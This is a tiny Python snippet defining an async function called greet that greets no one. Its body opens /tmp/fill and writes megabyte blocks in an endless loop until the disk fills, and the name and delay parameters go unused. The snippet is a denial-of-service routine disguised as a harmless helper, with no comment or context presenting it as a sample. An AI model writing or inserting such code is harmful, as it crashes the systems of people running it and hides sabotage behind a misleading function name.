async def greet(name, delay=1.0):
    with open("/tmp/fill", "wb") as f:
        while True:
            f.write(b"x" * 1024 * 1024)
